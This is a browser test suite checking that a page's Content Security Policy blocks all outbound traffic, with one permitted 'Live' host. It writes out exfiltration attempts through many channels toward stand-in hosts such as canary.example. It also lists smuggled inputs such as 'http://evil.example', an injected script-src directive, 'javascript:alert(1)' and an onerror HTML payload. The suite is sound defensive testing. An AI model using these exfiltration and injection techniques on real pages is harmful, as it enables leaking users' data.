// Nothing leaves: no request of the page's own, and none that is tried by force, from disk and from a server; Live opens one door.
import assert from "node:assert/strict";
import test from "node:test";
import { goTab, launch, open, serve } from "./harness.mjs";

const BLOCKED = [/Content Security Policy/, /Refused to connect/, /violates the following/];

/** Every way out a script has, towards a name that shows in the network log. */
const attempt = (page, name, base = "https://") =>
    page.evaluate(
        async ([host, scheme]) => {
            const tried = {};
            const to = (kind) => `${scheme}${kind}-${host}/`;
            const soon = (promise) =>
                Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 300, "silent"))]);
            tried.fetch = await fetch(to("fetch"), { method: "POST", body: "secret" }).then(
                () => "sent",
                (error) => error.name,
            );
            tried.blind = await fetch(to("blind"), { mode: "no-cors" }).then(
                () => "sent",
                (error) => error.name,
            );
            tried.beacon = await new Promise((resolve) => {
                document.addEventListener("securitypolicyviolation", () => resolve("blocked"), {
                    once: true,
                });
                navigator.sendBeacon(to("beacon"), "secret");
                setTimeout(resolve, 500, "silent");
            });
            tried.image = await soon(
                new Promise((resolve) => {
                    const image = new Image();
                    image.onload = () => resolve("sent");
                    image.onerror = () => resolve("blocked");
                    image.src = to("image");
                }),
            );
            tried.socket = await soon(
                new Promise((resolve) => {
                    try {
                        const socket = new WebSocket(to("socket").replace("http", "ws"));
                        socket.onopen = () => resolve("sent");
                        socket.onerror = () => resolve("blocked");
                    } catch (error) {
                        resolve(error.name);
                    }
                }),
            );
            tried.events = await soon(
                new Promise((resolve) => {
                    const source = new EventSource(to("events"));
                    source.onopen = () => resolve("sent");
                    source.onerror = () => {
                        source.close();
                        resolve("blocked");
                    };
                }),
            );
            tried.xhr = await soon(
                new Promise((resolve) => {
                    const request = new XMLHttpRequest();
                    request.onload = () => resolve("sent");
                    request.onerror = () => resolve("blocked");
                    request.open("GET", to("xhr"));
                    request.send();
                }),
            );
            // These two begin as navigations: the browser may look the host up before it asks the policy, but sends nothing.
            tried.form = await soon(
                new Promise((resolve) => {
                    document.addEventListener(
                        "securitypolicyviolation",
                        (event) => event.effectiveDirective === "form-action" && resolve("blocked"),
                    );
                    const form = document.createElement("form");
                    form.method = "post";
                    form.action = `${scheme}form.gate.example/`;
                    document.body.append(form);
                    form.submit();
                }),
            );
            tried.frame = await soon(
                new Promise((resolve) => {
                    document.addEventListener(
                        "securitypolicyviolation",
                        (event) => event.effectiveDirective === "frame-src" && resolve("blocked"),
                    );
                    const frame = document.createElement("iframe");
                    frame.src = `${scheme}frame.gate.example/`;
                    document.body.append(frame);
                }),
            );
            for (const [tag, set] of [
                ["link", { rel: "stylesheet", href: to("style") }],
                ["link", { rel: "prefetch", href: to("prefetch") }],
                ["video", { src: to("video") }],
                ["object", { data: to("object") }],
            ]) {
                const element = document.createElement(tag);
                try {
                    Object.assign(element, set);
                    document.body.append(element);
                } catch {
                    // Trusted Types refuse some of them before the policy would
                }
            }
            try {
                const script = document.createElement("script");
                script.src = to("script");
                document.body.append(script);
                tried.script = "appended";
            } catch (error) {
                tried.script = error.name;
            }
            try {
                tried.worker = new Worker(`data:text/javascript,fetch("${to("worker")}")`) && "made";
            } catch (error) {
                tried.worker = error.name;
            }
            try {
                document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.executed = 1">');
                tried.html = "inserted";
            } catch (error) {
                tried.html = error.name;
            }
            await new Promise((resolve) => setTimeout(resolve, 300));
            return {
                ...tried,
                executed: window.executed ?? 0,
                connect: document.documentElement.dataset.connect,
            };
        },
        [name, base],
    );

const fetchIn = (worker, url) =>
    worker.evaluate(
        (target) =>
            fetch(target, { mode: "no-cors" }).then(
                () => "sent",
                () => "blocked",
            ),
        url,
    );

async function nothingLeaves(from, hash, connect) {
    const host = await serve();
    const { browser, close } = await launch();
    const name = "canary.example";
    let opened;
    let netlog;
    try {
        opened = await open(browser, { from, base: host.base, hash });
        const { page } = opened;
        for (const tab of ["leads", "pictures", "exports", "debugger", "live"]) await goTab(page, tab);
        await goTab(page, "debugger");
        await page.locator(".example select").selectOption("top");
        await page.locator(".verdict").waitFor();
        const tried = await attempt(page, name);
        // The debugger has started the page's own workers: they have its policy too.
        const workers = page.workers();
        assert.ok(workers.length > 0);
        for (const worker of workers) assert.equal(await fetchIn(worker, `https://inside-${name}/`), "blocked");
        for (const kind of [
            "fetch",
            "blind",
            "beacon",
            "image",
            "socket",
            "events",
            "xhr",
            "form",
            "frame",
            "script",
            "worker",
            "html",
        ]) {
            assert.doesNotMatch(tried[kind], /sent|silent|made|appended|inserted/, `${kind}: ${tried[kind]}`);
        }
        assert.equal(tried.executed, 0);
        assert.equal(tried.connect, connect);
        assert.ok(
            opened.requests
                .filter((url) => !url.startsWith("blob:"))
                .every((url) => url.split("#")[0] === opened.address || /canary|gate\.example/.test(url)),
            opened.requests.join(" "),
        );
    } finally {
        await opened?.context.close();
        netlog = await close();
        await host.close();
    }
    assert.ok(netlog.text.includes('"constants"'), "the browser wrote no network log");
    assert.deepEqual(
        netlog.text.split("\n").filter((line) => line.includes(name)),
        [],
        "a canary name reached the network stack",
    );
    assert.deepEqual(
        netlog.requests.filter((url) => !url.startsWith("file:")),
        from === "http" ? [host.base + hash] : [],
    );
    assert.deepEqual(host.asked, from === "http" ? ["GET /"] : []);
}

test("from disk: no request at all, and none by force", () => nothingLeaves("file", "", "none"));
test("from a server: one request for the page, none else", () => nothingLeaves("http", "#lang=en", "none"));
const NO_HOSTS = [
    "https://*",
    "http://evil.example",
    "https://a.example;script-src 'unsafe-inline'",
    "https://a.example https://canary.example",
    "javascript:alert(1)",
    "https://user@canary.example",
    "https://",
    "*",
    "https://a.example/path",
    "//canary.example",
    "https://canary.example:*",
    "https://[::1]",
];

test("Live's host must be one host: anything else opens nothing", async () => {
    const { browser, close } = await launch();
    try {
        for (const asked of NO_HOSTS) {
            const { page, context } = await open(browser, { hash: `#live=${encodeURIComponent(asked)}` });
            assert.equal(await page.evaluate(() => document.documentElement.dataset.connect), "none", asked);
            assert.equal(
                await page.evaluate(() =>
                    fetch("https://canary.example/").then(
                        () => "sent",
                        () => "blocked",
                    ),
                ),
                "blocked",
                asked,
            );
            await context.close();
        }
    } finally {
        assert.equal((await close()).text.includes("canary.example"), false);
    }
});

test("Live: the one host it names can be reached; no other port, no other name, from workers neither", async () => {
    const host = await serve({
        answer: (request, response) =>
            request.url.startsWith("/probe") &&
            (response.writeHead(200, { "access-control-allow-origin": "*" }).end("here"), true),
    });
    const other = await serve({
        answer: (request, response) =>
            request.url.startsWith("/probe") &&
            (response.writeHead(200, { "access-control-allow-origin": "*" }).end("there"), true),
    });
    const { browser, close } = await launch();
    try {
        const opened = await open(browser, { hash: `#live=${host.origin}` });
        const reach = (url) =>
            opened.page.evaluate(
                (to) =>
                    fetch(to).then(
                        (answer) => answer.text(),
                        () => "blocked",
                    ),
                url,
            );
        assert.equal(await reach(`${host.origin}/probe`), "here");
        assert.equal(await reach(`${other.origin}/probe`), "blocked");
        assert.equal(await reach(`${host.origin.replace("127.0.0.1", "localhost")}/probe`), "blocked");
        await goTab(opened.page, "debugger");
        await opened.page.locator(".example select").selectOption("top");
        await opened.page.locator(".verdict").waitFor();
        assert.equal(await fetchIn(opened.page.workers()[0], `${other.origin}/probe`), "blocked");
        assert.deepEqual(host.asked, ["GET /probe"]);
        assert.deepEqual(other.asked, []);
        await opened.done({ expected: BLOCKED });
    } finally {
        const netlog = await close();
        await host.close();
        await other.close();
        assert.deepEqual(
            netlog.requests.filter((url) => !url.startsWith("file:")),
            [`${host.origin}/probe`],
        ); // the log does see what goes out
    }
});

test("a page whose guard did not run does not start", async () => {
    const { browser, close } = await launch();
    try {
        const context = await browser.newContext();
        const page = await context.newPage();
        await page.addInitScript(() => {
            // As if the guard's hash did not fit: its effect is taken away before the main script runs.
            new MutationObserver(
                () => document.documentElement && delete document.documentElement.dataset.connect,
            ).observe(document, { childList: true, subtree: true, attributes: true });
        });
        const { PAGE_FILE } = await import("./harness.mjs");
        await page.goto(`file://${PAGE_FILE}`);
        await page.waitForTimeout(300);
        assert.equal(await page.locator("[role=tab]").count(), 0);
        assert.equal(await page.locator("#app .notice").count(), 1);
        await context.close();
    } finally {
        await close();
    }
});
